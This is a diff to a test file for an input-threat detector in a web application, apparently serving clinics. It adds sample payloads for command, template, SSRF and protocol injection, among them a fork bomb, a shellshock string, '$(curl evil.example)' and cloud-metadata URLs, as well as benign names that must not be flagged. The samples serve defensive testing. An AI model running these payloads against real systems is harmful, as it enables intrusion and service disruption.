@@ -1,6 +1,6 @@
 import { expect, test } from "vitest";
 import { isScanner } from "./scanner-agents.ts";
-import { threatIn } from "./threat.ts";
+import { threatIn, threatInHeader } from "./threat.ts";
 
 const ATTACKS: Record<string, readonly string[]> = {
   sqli: [
@@ -73,6 +73,76 @@ const ATTACKS: Record<string, readonly string[]> = {
     "/..;/admin",
     "/var/log/auth.log",
   ],
+  command: [
+    "; whoami",
+    "x | ifconfig",
+    "`id`",
+    "$(curl evil.example)",
+    "a && cat /x/y",
+    "() { :;}; echo",
+    ":(){ :|:& };:",
+    "py''thon -c 'x'",
+    "c$@at /x",
+    "'c'url localhost",
+    "/???/b??h",
+    "{id,}",
+    "cat<<<ifconfig",
+    "nohup ifconfig",
+    "env --version",
+    "strace whoami",
+    "alias a=curl",
+    "\u0024{IFS}",
+    "exec 5>&1",
+    "for /f %i in (x) do y",
+    "if not exist x y",
+    "Invoke-WebRequest x",
+    "cmd /c dir",
+    ";.shell nc",
+    "system('id')",
+  ],
+  template: [
+    "{{user.name}}",
+    "\u0024{7*7}",
+    "#{7*7}",
+    "*{7*7}",
+    "*{T(x)}",
+    "@{[system 'id']}",
+    "\u0024{jndi:ldap:x}",
+    "{% if x %}",
+    "x__proto__",
+    "a[constructor][prototype]",
+    "process.binding(x",
+    "child_process",
+    "while(true)",
+    "user__name__startswith",
+    "class.module.classLoader",
+  ],
+  ssrf: [
+    "http://169.254.169.254/latest",
+    "http://127.0.0.1:9200/",
+    "https://localhost/x",
+    "http://[::1]/",
+    "http://2130706433/",
+    "http://0x7f000001/",
+    "ssh://0177.0.0.1",
+    "http://user@10.0.0.1/",
+    "http://metadata.google.internal/x",
+    "localhost/",
+    "http:0251.0376.0251.0376",
+  ],
+  protocol: [
+    "x\r\nSet-Cookie: a=b",
+    "x\nGET / HTTP/1.1",
+    "%0d%0aLocation: x",
+    "x\r\nRCPT TO:<a@b>",
+    "\r\nA001 SELECT INBOX",
+    "*)(uid=*",
+    "x)(|(uid=y",
+    "admin)(&)",
+    "x%00",
+    "%73%6f%6d%65",
+    "PHP_VALUE x",
+  ],
 };
 
 test("attacks are told by their kind, in every spelling that something behind us might undo", () => {
@@ -116,10 +186,125 @@ const INNOCENT = [
     "12345678Z",
     "+34 600 (ext. 5)",
   ],
+  ...[
+    "Wall; where it hurts",
+    "Mount, Wall",
+    "sleep apnea",
+    "if anything",
+    "for 3 days",
+    "test -ve",
+    "TAC; IRB; GCC",
+  ],
+  ...[
+    "tel:+34600123123",
+    "id:12345678",
+    "10.0.0.1",
+    "169.254.1.2",
+    "https://clinic.example/x",
+    "urn:uuid:018f4c1e",
+  ],
+  ...[
+    "Smith (Jr) (MD)",
+    "(L) (R=2)",
+    "cat -scan",
+    "Smith (a) & (b)",
+    "MRI (head) (neck)",
+    "$5",
+    "US$ 20",
+    "5 {mg}",
+    "{a}",
+    "[a]",
+    "50%",
+    "~5",
+    "~-1",
+  ],
+  ...[
+    "get well soon",
+    "get-together",
+    "Post office",
+    "Host: Smith",
+    "name__x",
+    "C88;C89",
+    "LS spine",
+    "CP; SOB",
+  ],
 ];
 
 test("names, codes, times, addresses and what else people type are nothing bad", () => {
   for (const value of INNOCENT) expect(threatIn(value), value).toBeNull();
+});
+
+/** Names of programs that people have, take, feel or say: these are searched for as they are. */
+const WORDS_OF_THE_SHELL =
+  "cat bash ruby ping id perl python sleep echo find who top less more kill nice cut mount curl awk sed head tail mail man make time last look host date docker sudo vim fish dash jobs node lua java less at cc cp ls ps mv rm sh su dd df du ed ex nc test type touch tee tr w watch wish yes".split(
+    " ",
+  );
+
+test("the shell's words are names and complaints too, however they are written", () => {
+  for (const word of WORDS_OF_THE_SHELL) {
+    const name = word.charAt(0).toUpperCase() + word.slice(1);
+    for (const value of [
+      ...[
+        word,
+        name,
+        `${name} Stevens`,
+        `May ${name}`,
+        `${name}, Wall`,
+        `Wall, ${name}`,
+        `${name}'s`,
+        `O'${name}`,
+      ],
+      ...[
+        `"${name}"`,
+        `'${name}'`,
+        `(${name})`,
+        `Mary-${name}`,
+        `${name}-Smith`,
+        `${name}; Wall`,
+        `Wall; ${name}`,
+      ],
+      ...[
+        `Wall;${name}`,
+        `Smith & ${name}`,
+        `${name} & Sons`,
+        `${name}/Wall`,
+        `Wall/${name}`,
+        `${name} apnea`,
+      ],
+      ...[
+        `${name} 5`,
+        `${name} -ve`,
+        `${name} - left`,
+        `${name}: Wall`,
+        `${name}?`,
+        `${name} > 7`,
+        `${name} = 5`,
+      ],
+      ...[
+        `${name} "Pepe" Li`,
+        `${name} 'n' Roll`,
+        `Time ${name}`,
+        `Dr. ${name}`,
+        `${name} Jr.`,
+        `${name} dr.li`,
+      ],
+      ...[`${word}@example.com`, `${word} and ${word}`, `${name} #2`, `${name} (old)`, `Ping ${name}`],
+    ]) {
+      expect(threatIn(value), value).toBeNull();
+    }
+  }
+});
+
+test("an address inside of the house is one in a field and none in a header: clinics serve their pages from there", () => {
+  for (const page of [
+    "http://127.0.0.1:3000/docs",
+    "https://localhost:8443/",
+    "http://10.1.2.3/patients?sort=name&id=4",
+  ]) {
+    expect(threatIn(page), page).toBe("ssrf");
+    expect(threatInHeader(page), page).toBeNull();
+  }
+  expect(threatInHeader("; whoami")).toBe("command");
 });
 
 test("search goes on as one types: what is half written is nothing bad either", () => {
@@ -155,7 +340,7 @@ test("scanners that say so are known; browsers, scripts and names that resemble 
 });
 
 const ATOMS =
-  "a|'|\"|(|)|%|%25|&|&#|&#x0|\\|\\u|<|<a |</|<!|/|..|../|.|{|{{|[|![|on|on |=|a=|;|-|--|/*|*/|#|0x|1.|1 or |' or |and |union |select |select(|`|@|@@|::|java|j a|expression|url(|\uff1c|\t|style |data:|etc/|/var/|c:\\|function |function(|$|${|+|+ad|1e|||case when |group by |'a'='a|on\t|window .|%u";
+  "a|'|\"|(|)|%|%25|&|&#|&#x0|\\|\\u|<|<a |</|<!|/|..|../|.|{|{{|[|![|on|on |=|a=|;|-|--|/*|*/|#|0x|1.|1 or |' or |and |union |select |select(|`|@|@@|::|java|j a|expression|url(|\uff1c|\t|style |data:|etc/|/var/|c:\\|function |function(|$|${|+|+ad|1e|||case when |group by |'a'='a|on\t|window .|%u|;|$(|${|`|;cat |; cat|cat -|cat /|/a/|/a[|/???|{a,|'a'|''|$@|\\a|if |if /i |for |for /d |%a |curl a.|ping a-|\n|\r\nA1 |)(|)(a|*)|a://|http://a.|http://0x1.|http://1.|a__|\"a__|%61|get |;\n|alias a";
 
 test("64 KiB of the worst that each pattern can meet costs milliseconds: no backtracking, whatever is sent", () => {
   for (const atom of ATOMS.split("|")) {
